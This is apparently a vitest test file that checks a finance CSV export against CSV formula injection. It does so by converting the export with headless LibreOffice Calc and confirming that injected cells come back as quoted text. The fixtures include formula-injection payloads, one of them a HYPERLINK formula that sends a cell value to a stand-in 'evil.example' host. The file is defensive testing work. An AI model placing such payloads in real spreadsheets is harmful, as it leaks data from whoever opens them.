/**
 * Reads a finance CSV back through a real spreadsheet engine: LibreOffice Calc,
 * headless, from Debian's packages (scripts/office.sh installs it; scripts/test.sh
 * runs that first). The CSV is converted to ODS the way a user's double-click would
 * import it (UTF-8, comma, formulas evaluated), and the cells are read back from the
 * ODS's content.xml.
 */
import { execFile, spawnSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { inflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyCsvChecksum } from './csv-checksum';
import { type CsvColumn, type CsvRow, createCsvExport } from './csv-export';

const run = promisify(execFile);

interface Cell {
  /** office:value-type: float, string, percentage, ... (undefined for an empty cell). */
  type?: string;
  /** office:value for numeric cells. */
  value?: string;
  text: string;
  formula?: string;
}

const COLUMNS: CsvColumn[] = [
  { key: 'name', header: 'Campaign', type: 'text' },
  { key: 'impressions', header: 'Impressions', type: 'integer' },
  { key: 'spend', header: 'Spend', type: 'money_micros' },
  { key: 'ctr', header: 'CTR', type: 'decimal' },
];

const ROWS: CsvRow[] = [
  { name: 'Spring, "sale"', impressions: 1000, spend: 12_340_000n, ctr: '0.0250000000' },
  { name: '=1+1', impressions: -3, spend: -12_500_000n, ctr: '-0.5000000000' },
  { name: '+SUM(1,2)', impressions: 0, spend: 1n, ctr: '0.0000000001' },
  { name: '-2+3', impressions: 7, spend: 999_999_999_999n, ctr: null },
  { name: '@SUM(B2:B3)', impressions: 1, spend: 500_000n, ctr: '1' },
  { name: '=HYPERLINK("http://evil.example/?leak="&B2,"click")', impressions: 2, spend: 0, ctr: '0' },
  { name: '\t=1+2', impressions: 3, spend: 3, ctr: '3' },
  { name: 'ünïcödé 日本語 🎉', impressions: 4, spend: 4, ctr: '4' },
  { name: 'two\nlines', impressions: 5, spend: 5, ctr: '5' },
];

const META = {
  title: 'Loupe spend by campaign',
  account: 'Acme, Inc =1+1 (549755813888)',
  period: '2026-01-01 to 2026-03-31 (inclusive)',
  timezone: 'America/New_York',
  currency: 'USD',
  attributionWindows: 'click 30 days; engagement 30 days; view 1 day',
  generatedAt: new Date('2026-04-01T04:00:00.000Z'),
};

let dir = '';
let exported: Cell[][] = [];
let control: Cell[][] = [];
let csvBytes = Buffer.alloc(0);

beforeAll(async () => {
  if (spawnSync('soffice', ['--version']).status !== 0) {
    throw new Error('LibreOffice (soffice) is not installed: run `bash scripts/office.sh` (Debian: libreoffice-calc-nogui)');
  }
  dir = await mkdtemp(join(tmpdir(), 'loupe-csv-office-'));
  const chunks: Buffer[] = [];
  for await (const chunk of createCsvExport(ROWS, { columns: COLUMNS, meta: META, bom: true })) chunks.push(chunk as Buffer);
  csvBytes = Buffer.concat(chunks);
  await writeFile(join(dir, 'export.csv'), csvBytes);
  // The same kind of cell without neutralisation: proves this import evaluates formulas at all.
  await writeFile(join(dir, 'control.csv'), 'Campaign,Impressions\r\n=1+1,2\r\n');
  await run(
    'soffice',
    [
      // A private profile so parallel runs (and other users of soffice) do not collide.
      `-env:UserInstallation=file://${join(dir, 'profile')}`,
      '--headless',
      '--norestore',
      '--convert-to',
      'ods',
      // Comma, double quote, UTF-8 (76), from line 1, no column formats, English (US) numbers.
      '--infilter=CSV:44,34,76,1,,1033',
      '--outdir',
      dir,
      join(dir, 'export.csv'),
      join(dir, 'control.csv'),
    ],
    { timeout: 170_000 },
  );
  exported = readOdsCells(await readFile(join(dir, 'export.ods')));
  control = readOdsCells(await readFile(join(dir, 'control.ods')));
}, 180_000);

afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('finance CSV read back by LibreOffice Calc', () => {
  it('evaluates an unneutralised formula cell in this import (the control)', () => {
    expect(control[1]![0]).toMatchObject({ formula: 'of:=1+1', type: 'float', value: '2' });
  });

  it('holds no live formula anywhere in the exported file', () => {
    const formulas = exported.flat().filter((cell) => cell.formula !== undefined);
    expect(formulas).toEqual([]);
  });

  it('keeps each header line in one text cell of column A', () => {
    // Title, seven `key: value` lines and the checksum note; the BOM is not part of the first cell.
    const header = exported.slice(0, 9);
    expect(exported[9]![0]!.text).toBe('Campaign');
    expect(header[0]![0]!.text).toBe('# Loupe spend by campaign');
    for (const row of header) {
      expect(row[0]!.type).toBe('string');
      expect(row[0]!.text.startsWith('#')).toBe(true);
      expect(row.slice(1).filter((cell) => cell.text !== '')).toEqual([]);
    }
    expect(header[1]![0]!.text).toBe('# account: Acme%2C Inc =1+1 (549755813888)');
  });

  it('reads the injected strings back as text, marked by the leading quote', () => {
    const data = dataRows();
    const names = data.map((row) => row[0]!);
    for (const cell of names) expect(cell.type).toBe('string');
    expect(names.map((cell) => cell.text)).toEqual([
      'Spring, "sale"',
      "'=1+1",
      "'+SUM(1,2)",
      "'-2+3",
      "'@SUM(B2:B3)",
      '\'=HYPERLINK("http://evil.example/?leak="&B2,"click")',
      "'\t=1+2",
      'ünïcödé 日本語 🎉',
      'two\nlines',
    ]);
  });

  it('reads integers, money and ratios back as the right numbers, negatives included', () => {
    const data = dataRows();
    const numbers = data.map((row) => row.slice(1, 4).map((cell) => (cell.type === 'float' ? Number(cell.value) : cell.text)));
    expect(numbers).toEqual([
      [1000, 12.34, 0.025],
      [-3, -12.5, -0.5],
      [0, 0.000001, 1e-10],
      [7, 999999.999999, ''],
      [1, 0.5, 1],
      [2, 0, 0],
      [3, 0.000003, 3],
      [4, 0.000004, 4],
      [5, 0.000005, 5],
    ]);
  });

  it('sees the checksum trailer as one more comment cell, and the file as written still verifies', async () => {
    const last = exported[exported.length - 1]!;
    expect(last[0]!.text).toMatch(/^# sha256: [0-9a-f]{64}; rows: 9$/);
    expect((await verifyCsvChecksum(csvBytes)).valid).toBe(true);
  });
});

function dataRows(): Cell[][] {
  const columnRow = exported.findIndex((row) => row[0]!.text === 'Campaign');
  expect(exported[columnRow]!.slice(0, 4).map((cell) => cell.text)).toEqual(['Campaign', 'Impressions', 'Spend', 'CTR']);
  return exported.slice(columnRow + 1, columnRow + 1 + ROWS.length);
}

/** The first sheet's cells from an ODS file: a minimal ZIP reader (central directory + inflate) and a regex over content.xml. */
function readOdsCells(ods: Buffer): Cell[][] {
  const xml = zipEntry(ods, 'content.xml').toString('utf8');
  const table = /<table:table\b[\s\S]*?<\/table:table>/.exec(xml)?.[0] ?? '';
  const rows: Cell[][] = [];
  for (const rowMatch of table.matchAll(/<table:table-row\b[^>]*?(?:\/>|>([\s\S]*?)<\/table:table-row>)/g)) {
    const cells: Cell[] = [];
    const cellPattern = /<table:(?:covered-)?table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:(?:covered-)?table-cell>)/g;
    for (const cellMatch of (rowMatch[1] ?? '').matchAll(cellPattern)) {
      const attributes = cellMatch[1] ?? '';
      const attribute = (name: string) => new RegExp(`${name}="([^"]*)"`).exec(attributes)?.[1];
      const formula = attribute('table:formula');
      const cell: Cell = {
        type: attribute('office:value-type'),
        value: attribute('office:value'),
        text: cellText(cellMatch[2] ?? ''),
        ...(formula === undefined ? {} : { formula: decodeXml(formula) }),
      };
      const repeat = Math.min(Number(attribute('table:number-columns-repeated') ?? '1'), 16);
      for (let i = 0; i < repeat; i += 1) cells.push(cell);
    }
    rows.push(cells);
  }
  return rows;
}

function cellText(inner: string): string {
  const paragraphs = [...inner.matchAll(/<text:p\b[^>]*?(?:\/>|>([\s\S]*?)<\/text:p>)/g)].map((match) =>
    decodeXml(
      (match[1] ?? '')
        .replace(/<text:s\s+text:c="(\d+)"\s*\/>/g, (_, n: string) => ' '.repeat(Number(n)))
        .replace(/<text:s\s*\/>/g, ' ')
        .replace(/<text:tab\s*\/>/g, '\t')
        .replace(/<text:line-break\s*\/>/g, '\n')
        .replace(/<[^>]+>/g, ''),
    ),
  );
  return paragraphs.join('\n');
}

function decodeXml(text: string): string {
  return text.replace(/&(#x[0-9a-f]+|#\d+|amp|lt|gt|quot|apos);/gi, (_, entity: string) => {
    if (entity[0] === '#') return String.fromCodePoint(entity[1] === 'x' || entity[1] === 'X' ? parseInt(entity.slice(2), 16) : Number(entity.slice(1)));
    return { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }[entity.toLowerCase()]!;
  });
}

function zipEntry(zip: Buffer, name: string): Buffer {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  if (eocd < 0) throw new Error('not a ZIP file');
  const entries = zip.readUInt16LE(eocd + 10);
  let offset = zip.readUInt32LE(eocd + 16);
  for (let i = 0; i < entries; i += 1) {
    if (zip.readUInt32LE(offset) !== 0x02014b50) throw new Error('bad ZIP central directory');
    const method = zip.readUInt16LE(offset + 10);
    const compressedSize = zip.readUInt32LE(offset + 20);
    const nameLength = zip.readUInt16LE(offset + 28);
    const extraLength = zip.readUInt16LE(offset + 30);
    const commentLength = zip.readUInt16LE(offset + 32);
    const localOffset = zip.readUInt32LE(offset + 42);
    const entryName = zip.subarray(offset + 46, offset + 46 + nameLength).toString('utf8');
    if (entryName === name) {
      const start = localOffset + 30 + zip.readUInt16LE(localOffset + 26) + zip.readUInt16LE(localOffset + 28);
      const data = zip.subarray(start, start + compressedSize);
      if (method === 0) return data;
      if (method === 8) return inflateRawSync(data);
      throw new Error(`unsupported ZIP compression method ${method}`);
    }
    offset += 46 + nameLength + extraLength + commentLength;
  }
  throw new Error(`${name} not found in ZIP`);
}
